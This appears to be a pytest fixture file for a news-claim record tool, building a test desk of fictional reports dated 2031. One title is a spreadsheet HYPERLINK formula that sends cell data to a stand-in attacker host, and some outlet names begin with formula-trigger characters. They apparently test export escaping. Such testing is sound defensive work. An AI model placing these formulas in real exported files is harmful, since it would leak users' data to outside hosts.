"""The record of the views' tests on both databases, and a desk's record on a file with words that spreadsheets run."""

from collections.abc import Callable, Iterator
from pathlib import Path

import pytest

from onrecord.model import Reading
from onrecord.record.decisions import Decision
from onrecord.record.store import Record
from onrecord.views.claim_lines import find_claims
from tests.exports.kept import kept
from tests.record.stories import BLAMED, BRIDGE, MARKET
from tests.views.conftest import address, filled, new_database, postgresql, read, record

__all__ = ["address", "filled", "kept", "new_database", "postgresql", "read", "record"]

RISKY = '=HYPERLINK("http://evil.example/?"&A1,"Bridge")'
HOSPITAL = (
    "Shells hit the hospital in Bakhmut on Tuesday, the army of Velmar said. Josef Brandt, a farmer, said 12 people "
    "had been killed there. The governor, Peter Ladov, said 30 people had been displaced to Lubny."
)


@pytest.fixture
def desk(tmp_path: Path, read: Callable[..., Reading]) -> Iterator[Record]:
    """Four reports, of which a person has checked the claims of the first."""
    with Record.open(tmp_path / "onrecord.db") as opened:
        opened.add(read(BRIDGE, published="2031-05-06", outlet="-Dash Daily", title=RISKY), reader="test")
        opened.add(read(MARKET, published="2031-05-07", outlet="Talin Daily"), reader="test")
        opened.add(read(BLAMED, published="2031-05-08", outlet="Northern Wire"), reader="test")
        opened.add(read(HOSPITAL, published="2031-05", outlet="@Wire"), reader="test")
        for line in find_claims(opened, limit=1000):
            if line.outlet == "-Dash Daily":
                opened.decide(Decision(kind="claim.check", target=line.id, by="test"))
        opened.refresh()
        yield opened
